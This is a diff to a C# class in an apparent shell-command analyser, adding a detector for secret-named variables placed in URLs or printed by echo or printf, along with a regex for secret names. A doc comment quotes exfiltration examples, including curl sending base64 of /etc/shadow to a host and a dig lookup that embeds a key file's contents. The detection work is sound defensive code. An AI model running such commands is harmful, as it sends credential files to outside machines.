@@ -1,5 +1,6 @@
 using System.Collections.Frozen;
 using System.Text;
+using System.Text.RegularExpressions;
 using Firstlook.Effects.Shell;
 
 namespace Firstlook.Effects;
@@ -8,7 +9,7 @@ namespace Firstlook.Effects;
 /// What files hold leaves the machine in an address: <c>curl "https://host/?x=$(base64 /etc/shadow)"</c>, <c>dig $(cat key).host</c>. The request is a
 /// read wherever it arrives; what it carries is not. Values of headers are left to the tags: a token is read from a file there every day.
 /// </summary>
-internal static class SentAway
+internal static partial class SentAway
 {
     /// <summary>Programs that hand their operands to another machine.</summary>
     static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.Ordinal,
@@ -39,6 +40,34 @@ internal static class SentAway
         }
         return null;
     }
+
+    /// <returns>The variable of a secret's name that stands in an address, or is printed; null where none does. Values of headers are what such a variable is for.</returns>
+    public static string? SecretIn(SimpleCommand command)
+    {
+        var prints = command.Words[0].Constant is "echo" or "printf";
+        var sends = command.Words[0].Constant is { } name && IsSender(name);
+        for (var at = 1; at < command.Words.Count && (prints || sends); at++)
+        {
+            if (sends && command.Words[at - 1].Constant is { } before && (Headers.Contains(before) || before is "-d" or "--data" or "--data-raw" or "--data-urlencode" or "-F" or "--form")) continue;
+            if (SecretIn(command.Words[at].Parts) is { } secret) return secret;
+        }
+
+        return null;
+    }
+
+    static string? SecretIn(EquatableArray<WordPart> parts)
+    {
+        foreach (var part in parts)
+        {
+            if (part is Variable variable && SecretName().IsMatch(variable.Name)) return "$" + variable.Name;
+            if (part is DoubleQuoted quoted && SecretIn(quoted.Parts) is { } inside) return inside;
+        }
+
+        return null;
+    }
+
+    [GeneratedRegex(@"(^|_)(TOKEN|SECRET|PASS|PASSWORD|PASSWD|PWD_?DB|CREDENTIALS?|API_?KEY|ACCESS_?KEY(_ID)?|PRIVATE_?KEY|APIKEY)(_|$)", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex SecretName();
 
     /// <summary>Whether a value that is assigned holds what a file holds, so that the variable carries it on.</summary>
     public static bool Carries(Word value, Scope scope) => Carried(value.Parts, scope) is not null;
